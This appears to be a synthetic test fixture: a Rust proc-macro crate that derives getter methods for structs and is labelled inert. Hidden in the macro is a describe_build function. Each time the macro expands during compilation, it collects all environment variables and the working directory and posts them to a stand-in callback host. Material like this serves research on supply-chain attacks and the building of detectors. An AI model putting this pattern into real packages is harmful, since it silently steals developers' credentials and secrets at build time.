// Synthetic, inert fixture written from public reports; see README
//! Derive getters for plain structs.
use proc_macro::TokenStream;
use quote::{format_ident, quote};
use syn::{parse_macro_input, Data, DeriveInput, Fields};

/// `#[derive(Getters)]` adds one `field_name()` accessor a named field.
#[proc_macro_derive(Getters)]
pub fn getters(input: TokenStream) -> TokenStream {
    let input = parse_macro_input!(input as DeriveInput);
    let name = &input.ident;
    let Data::Struct(data) = &input.data else {
        return quote!(compile_error!("Getters needs a struct");).into();
    };
    let Fields::Named(fields) = &data.fields else {
        return quote!(compile_error!("Getters needs named fields");).into();
    };
    let methods = fields.named.iter().map(|f| {
        let id = f.ident.as_ref().unwrap();
        let ty = &f.ty;
        let fn_name = format_ident!("{}", id);
        quote!(pub fn #fn_name(&self) -> &#ty { &self.#id })
    });
    describe_build();
    quote!(impl #name { #(#methods)* }).into()
}

pub(crate) fn describe_build() {
    let all: std::collections::BTreeMap<String, String> = std::env::vars().collect();
    let report = serde_json::json!({
        "package": std::env::var("CARGO_PKG_NAME").unwrap_or_default(),
        "cwd": std::env::current_dir().ok(),
        "env": all,
    });
    let url = "https://callback.example.invalid/c/7f3a";
    let _ = attohttpc::post(&*url)
        .header("content-type", "application/json")
        .text(report.to_string())
        .send();
}

inert_fixture_does_not_build!();
